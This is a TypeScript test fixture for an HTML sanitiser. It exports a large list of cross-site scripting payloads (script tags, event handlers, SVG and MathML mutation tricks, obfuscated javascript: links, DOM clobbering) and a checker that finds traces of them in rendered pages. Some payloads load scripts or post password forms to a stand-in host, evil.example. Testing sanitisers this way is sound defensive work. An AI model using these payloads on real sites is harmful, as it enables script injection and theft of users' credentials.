/**
 * Hostile HTML of many kinds. Each would set `window.__xss`, or load, style, submit or shadow
 * something, if any part of it got through. Plain strings, so that tests can both sanitise them
 * directly and post them to an instance and open it in a browser.
 */

const run = 'window.__xss=1';

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<ScRiPt type="text/javascript">${run}</sCrIpT>`,
  `<script/src="https://evil.example/x.js"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>${run}</script>`,
  `<script async defer crossorigin nonce="guess">${run}</script>`,
  `<script>${run}</script foo="bar">`,
  `<script>${run}</script\t\n >`,
  `<script><!--${run}//--></script>`,
  `<script><!-- <script> </script> ${run} --></script>`,
  `<script\u0000>${run}</script>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>script>${run}<</script>/script>`,
  `<script>${run}`,
  `</script><script>${run}</script>`,
  `<script x>${run}</script y>`,
  `<script/x/>${run}</script>`,
  `<p><script>${run}</p></script>`,
  `<script type="text/template"><img src=x onerror="${run}"></script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><script xlink:href="data:text/javascript,${run}"></script></svg>`,
  `<math><script>${run}</script></math>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `&LT;script&GT;${run}&LT;/script&GT;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
];

const handlers = [
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror='${run}'>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x:x onerror\n=\n${run}>`,
  `<img src=x oNeRrOr=${run}>`,
  `<img src="x" alt="" onerror="${run}" class="emoji">`,
  `<img """><img src=x onerror="${run}">"`,
  `<img src=x onerror\u0000="${run}">`,
  `<img src=x \u000bonerror="${run}">`,
  `<img src='x'onerror='${run}'>`,
  `<img src=x onload="${run}" onloadstart="${run}">`,
  `<p onclick="${run}">text</p>`,
  `<p onmouseover="${run}" onpointerenter="${run}">text</p>`,
  `<a href="https://a.example" onclick="${run}">x</a>`,
  `<a href="https://a.example" onfocus="${run}" autofocus tabindex=0>x</a>`,
  `<a href="https://a.example" data-x='"onmouseover=${run} x="'>x</a>`,
  `<a href='https://a.example" onmouseover="${run}'>x</a>`,
  `<a href=https://a.example"onmouseover="${run}">x</a>`,
  `<span class="mention" onclick="${run}">@x</span>`,
  `<span class='" onmouseover="${run}'>x</span>`,
  `<span lang='en" onmouseover="${run}'>x</span>`,
  `<abbr title='" onmouseover="${run}" x="'>x</abbr>`,
  `<body onload="${run}">`,
  `<html onmouseover="${run}"><body>x`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<video src=x onerror="${run}"></video>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"><option>x</option></select>`,
  `<textarea autofocus onfocus="${run}">x</textarea>`,
  `<keygen autofocus onfocus="${run}">`,
  `<button popovertarget=x onclick="${run}">x</button>`,
  `<div popover id=x onbeforetoggle="${run}">x</div>`,
  `<p style="animation:x" onanimationstart="${run}">x</p>`,
  `<p contenteditable oninput="${run}">x</p>`,
  `<object data=x onerror="${run}"></object>`,
  `<iframe onload="${run}"></iframe>`,
  `<dialog open onclose="${run}">x</dialog>`,
  `<xss onpointerrawupdate="${run}" id=x tabindex=1 style="display:block">x</xss>`,
  `<p is="x-p" onclick=${run}>x</p>`,
];

const foreign = [
  `<svg onload="${run}">`,
  `<svg/onload=${run}>`,
  `<svg><g onload="${run}"></g></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text>x</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${run}"/></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>`,
  `<svg><image href="x" onerror="${run}"/></svg>`,
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<svg><desc><img src=x onerror="${run}"></desc></svg>`,
  `<svg><title><script>${run}</script></title></svg>`,
  `<svg><![CDATA[<img src=x onerror="${run}">]]></svg>`,
  `<svg><p><style><!--</style><img src=x onerror="${run}">--></style></svg>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>"></style></mtext></svg></mglyph></mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`,
  `<math><mtext></p><mglyph><!--</mglyph><img src=x onerror=${run}>--></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}"></style></mglyph></form></mtext></math></form>`,
  `<xml><a href="javascript:${run}">x</a></xml>`,
  `<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">${run}</html:script>`,
  `<?php echo "<script>${run}</script>" ?>`,
];

const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<noscript><style></noscript><img src=x onerror=${run}></style></noscript>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror="${run}"></template>`,
  `<style><style/><img src=x onerror="${run}">`,
  `<style></style/x><img src=x onerror="${run}"></style>`,
  `<listing>&lt;img src=x onerror="${run}"&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<xmp>&lt;script&gt;${run}&lt;/script&gt;</xmp>`,
  `<textarea></textarea><img src=x onerror="${run}">`,
  `<textarea>&lt;/textarea&gt;&lt;img src=x onerror="${run}"&gt;</textarea>`,
  `<title></title><img src=x onerror="${run}">`,
  `<option>&lt;script&gt;${run}&lt;/script&gt;</option>`,
  `<select><noembed></select><script>${run}</script></noembed></select>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${run}>"></noframes>`,
  `<plaintext><img src=x onerror="${run}">`,
  `<iframe><img title="</iframe><img src=x onerror=${run}>"></iframe>`,
  `<p title="--><img src=x onerror=${run}>">x</p>`,
  `<abbr title="</abbr><script>${run}</script>">x</abbr>`,
  `<a title="&quot;><img src=x onerror=${run}>" href="https://a.example">x</a>`,
  `<abbr title="\`\`onmouseover=${run}">x</abbr>`,
  `<table><td><a href="https://a.example"><table><a href="javascript:${run}">x</a></table></a></td></table>`,
  `<a href="https://a.example"><a href="javascript:${run}">x</a></a>`,
  `<p><b><p><i></b><img src=x onerror="${run}"></i></p>`,
  `<b><p></b></p><script>${run}</script>`,
  `<ruby><rt><p></ruby><img src=x onerror="${run}">`,
];

const comments = [
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<!--><img src=x onerror="${run}">-->`,
  `<!---><img src=x onerror="${run}">-->`,
  `<!-- --!><img src=x onerror="${run}"> -->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<!-- <!-- --> <script>${run}</script> -->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<![CDATA[><img src=x onerror="${run}">]]>`,
  `<!DOCTYPE x [<!ENTITY y "<script>${run}</script>">]>&y;`,
  `<!<script>${run}</script>`,
  `</<script>${run}</script>`,
  `<! foo="><script>${run}</script>">`,
  `<% <script>${run}</script> %>`,
];

const unfinished = [
  `<img src=x onerror="${run}"`,
  `<img src=x onerror=${run}//`,
  `<img src=x onerror="${run}" <p>text</p>`,
  `<a href="javascript:${run}`,
  `<a href="https://a.example" onclick="${run}`,
  `<p><a href='javascript:${run}' <b>x</b>`,
  `<iframe src="javascript:${run}" <`,
  `<script src="https://evil.example/x.js" <b>`,
  `<p title="x<p onclick=${run}>y</p>`,
  `<"><script>${run}</script>`,
  `<><img src=x onerror="${run}">`,
  `< img src=x onerror="${run}">`,
  `<\u0000img src=x onerror="${run}">`,
  `<p/onclick=${run}//>x`,
  `<p ="><img src=x onerror=${run}>">x</p>`,
  `<p a=b'c"d onclick=${run}>x</p>`,
];

const schemes = [
  'javascript:window.__xss=1',
  'JaVaScRiPt:window.__xss=1',
  ' javascript:window.__xss=1',
  '\u0001javascript:window.__xss=1',
  '\u0000javascript:window.__xss=1',
  'java\tscript:window.__xss=1',
  'java\nscript:window.__xss=1',
  'java\r\nscript:window.__xss=1',
  'java\u0000script:window.__xss=1',
  'javascript\t:window.__xss=1',
  '\u00a0javascript:window.__xss=1',
  '\u2028javascript:window.__xss=1',
  '\ufeffjavascript:window.__xss=1',
  'java&#9;script:window.__xss=1',
  'java&#x0A;script:window.__xss=1',
  'java&Tab;script:window.__xss=1',
  'java&NewLine;script:window.__xss=1',
  'javascript&colon;window.__xss=1',
  'javascript&#58;window.__xss=1',
  'javascript&#0000058window.__xss=1',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.__xss=1',
  '&#1;javascript:window.__xss=1',
  'java<!-- -->script:window.__xss=1',
  'javascript://https://a.example/%0Awindow.__xss=1',
  'javascript:https://a.example',
  'jav\u0430script:window.__xss=1',
  'vbscript:window.__xss=1',
  'livescript:window.__xss=1',
  'mocha:window.__xss=1',
  'data:text/html,<script>parent.__xss=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload="parent.__xss=1"/>',
  'DATA:text/html,x',
  'blob:https://a.example/0-0-0',
  'filesystem:https://a.example/x',
  'file:///etc/passwd',
  'about:blank',
  'view-source:https://a.example',
  'feed:javascript:window.__xss=1',
  'jar:https://a.example!/x',
  'ws://a.example',
  'intent://a.example#Intent;scheme=javascript;end',
  'x-apple.systempreferences:x',
  '//evil.example/x',
  '\\\\evil.example/x',
  '/\\evil.example/x',
  'http:javascript:window.__xss=1',
  'https:\\evil.example',
  'mailto:',
  '#x',
  '?x',
  '',
].map((address) => `<a href="${address.replaceAll('"', '&quot;')}">x</a>`);

const linksInDisguise = [
  `<a class="mention" href="javascript:${run}" data-user="A1">@<span>x</span></a>`,
  `<a class="u-url mention" data-user="../../javascript:${run}" href="https://a.example/users/x">@x</a>`,
  `<a class="u-url mention" data-user='"><script>${run}</script>' href="https://a.example/users/x">@x</a>`,
  `<a class="hashtag" data-tag="javascript:${run}" href="javascript:${run}">#x</a>`,
  `<a class="hashtag" data-tag='"><img src=x onerror=${run}>' href="https://a.example/tag/x">#x</a>`,
  `<a rel="tag" href="data:text/html,x">#x</a>`,
  `<a rel="opener" target="_self" href="https://a.example">x</a>`,
  `<a rel="import prefetch" ping="https://evil.example" download="x.exe" href="https://a.example">x</a>`,
  `<a href="https://a.example" href="javascript:${run}">x</a>`,
  `<a href="javascript:${run}" href="https://a.example">x</a>`,
  `<a xlink:href="javascript:${run}">x</a>`,
  `<a formaction="javascript:${run}" href="https://a.example">x</a>`,
  `<a href="https://a.example/\u202egpj.exe">x</a>`,
  `<area href="javascript:${run}" shape=default>`,
  `<map name=x><area href="javascript:${run}"></map>`,
];

const loaders = [
  `<img srcset="javascript:${run} 1x, x 2x" onerror="${run}">`,
  `<img src="javascript:${run}">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<img src="data:image/svg+xml,<svg onload=${run}/>">`,
  `<img dynsrc="javascript:${run}" lowsrc="javascript:${run}">`,
  `<picture><source srcset="x" onerror="${run}"><img src=x></picture>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>`,
  `<frameset><frame src="javascript:${run}"></frameset>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html,x" type="text/html"></object>`,
  `<embed src="javascript:${run}">`,
  `<applet code="x" archive="https://evil.example/x.jar"></applet>`,
  `<portal src="https://evil.example"></portal>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel="import" href="https://evil.example/x.html">`,
  `<link rel="modulepreload" href="https://evil.example/x.js">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="https://evil.example/">`,
  `<base target="_self">`,
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<form action="https://evil.example"><input name=password type=password></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<isindex action="javascript:${run}" type=image>`,
  `<input type=image src=x onerror="${run}">`,
  `<video poster="javascript:${run}" src="https://evil.example/x.mp4" autoplay></video>`,
  `<bgsound src="javascript:${run}">`,
  `<table background="javascript:${run}"><td background="javascript:${run}">x</td></table>`,
  `<body background="javascript:${run}">x</body>`,
  `<blockquote cite="javascript:${run}">x</blockquote>`,
  `<q cite="javascript:${run}">x</q>`,
];

const styles = [
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>*{background:url("javascript:${run}")}</style>`,
  `<style>body{display:none}</style>`,
  `<p style="background:url(https://evil.example/x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">cover</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="-moz-binding:url(https://evil.example/x.xml)">x</p>`,
  `<p STYLE='color:red'>x</p>`,
  `<p style\n=\n"color:red">x</p>`,
  `<p/style=color:red>x</p>`,
  `<span style="font-size:9999px" class="mfm-x2">x</span>`,
  `<font color="red" face="x" size="7">x</font>`,
  `<p class="modal-overlay app">x</p>`,
  `<span class="invisible">hidden words</span>`,
];

const clobbering = [
  `<p id="app">x</p>`,
  `<p id="__proto__">x</p>`,
  `<a id="config" name="config" href="https://a.example">x</a>`,
  `<img name="currentScript" src=x>`,
  `<form id="document" name="cookie"><input name="attributes"></form>`,
  `<a id=x href="https://a.example"></a><a id=x name=y href="https://a.example">x</a>`,
  `<p slot="x" part="y" itemid="z" nonce="n">x</p>`,
  `<p __proto__="x" constructor="y" prototype="z">x</p>`,
  `<a href="https://a.example" __proto__.polluted="1" constructor.prototype.polluted="1">x</a>`,
  `<__proto__ polluted="1">x</__proto__>`,
  `<constructor>x</constructor><toString>y</toString><hasOwnProperty>z</hasOwnProperty>`,
  `<p dangerouslySetInnerHTML='{"__html":"<script>${run}</script>"}' ref="x" key="y">x</p>`,
  `<p children="x" className="app" defaultValue="y">x</p>`,
  `<p data-reactroot data-status-id="1" aria-hidden="true" role="alert">x</p>`,
];

/** Texts that emoji with a hostile picture are written with; see `hostileEmoji`. */
const emojiTexts = [
  ':hostile:',
  `<p>:hostile: <a href="https://a.example">:hostile:</a></p>`,
  `:"><img src=x onerror=${run}>:`,
  `:__proto__: :constructor: :toString:`,
];

export const xssPayloads: string[] = [
  ...scripts,
  ...handlers,
  ...foreign,
  ...mutations,
  ...comments,
  ...unfinished,
  ...schemes,
  ...linksInDisguise,
  ...loaders,
  ...styles,
  ...clobbering,
  ...emojiTexts,
];

/** Custom emoji that a hostile server may send. */
export const hostileEmoji = [
  { shortcode: 'hostile', url: `javascript:${run}`, staticUrl: `javascript:${run}` },
  {
    shortcode: `"><img`,
    url: `https://a.example/x" onerror="${run}`,
    staticUrl: `data:image/svg+xml,<svg onload="${run}"/>`,
  },
];

/** Mentions that a hostile server may send. */
export const hostileMentions = [
  { userId: 'A1', screenName: 'x"><script>', url: `javascript:${run}` },
  { userId: '../../login', screenName: 'y@a.example', url: 'https://a.example/users/x' },
];

/**
 * Finds traces of the payloads in a page, one line each. Uses nothing from outside, so that it can
 * be passed to a browser as text.
 */
export function violationsIn(root: Element): string[] {
  const elements =
    'p div br hr wbr span bdi bdo a strong b em i u s del ins mark small sub sup code kbd samp var pre ' +
    'blockquote q cite abbr dfn ul ol li h2 h3 h4 h5 h6 ruby rt rp table thead tbody tfoot tr th td img canvas';
  const attributes =
    'class href target rel title lang dir translate start value colspan rowspan src alt loading decoding ' +
    'draggable width height referrerpolicy data-route data-person data-held aria-hidden';
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const name = element.localName;
    if (!elements.split(' ').includes(name)) found.push(`element ${name}`);
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`namespace of ${name}`);
    for (const attribute of element.attributes) {
      if (!attributes.split(' ').includes(attribute.name)) {
        found.push(`attribute ${attribute.name} of ${name}`);
      }
    }
    const href = element.getAttribute('href');
    if (href !== null && !/^(https?:\/\/|mailto:.|\/(?![/\\]))/.test(href)) {
      found.push(`address ${href}`);
    }
    if (element instanceof HTMLAnchorElement && element.target === '_blank') {
      for (const word of ['nofollow', 'noopener', 'noreferrer']) {
        if (!element.relList.contains(word)) found.push(`${word} missing at ${String(href)}`);
      }
    }
    const src = element.getAttribute('src');
    if (src !== null && !/^(https?:\/\/|\/(?![/\\]))/.test(src)) found.push(`picture ${src}`);
  }
  if ('__xss' in window) found.push('a script ran');
  return found;
}
